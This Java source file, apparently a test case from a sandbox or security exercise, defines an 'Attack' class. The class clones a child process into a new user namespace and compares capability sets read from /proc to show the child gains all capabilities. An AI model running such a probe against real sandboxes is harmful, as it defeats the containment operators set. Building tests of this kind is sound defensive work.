// wants: all capabilities, in a user namespace of its own
// off: NESTED_NAMESPACES, SYSTEM_CALLS
// gets: a process with all capabilities
package student;

import java.lang.foreign.Arena;
import java.nio.file.Files;
import java.nio.file.Path;

final class Attack {
    private static final long STACK = 64 << 10;
    private static final long NEW_USER_NAMESPACE = 0x1000_0000;
    private static final long SIGCHLD = 17;
    private static final long SIGKILL = 9;

    static String run() throws Exception {
        long stack = Arena.global().allocate(STACK, 16).address() + STACK;
        long child = Kernel.call("clone", Kernel.address("pause"), stack, NEW_USER_NAMESPACE | SIGCHLD, 0L);
        String mine = capabilities("self");
        String its = capabilities(Long.toString(child));
        Kernel.call("kill", child, SIGKILL);
        return mine.equals(its) ? "as little as before" : "a process with all capabilities, " + its;
    }

    private static String capabilities(String process) throws Exception {
        return Files.readAllLines(Path.of("/proc", process, "status")).stream()
                .filter(line -> line.startsWith("CapEff:"))
                .findFirst()
                .orElseThrow();
    }
}
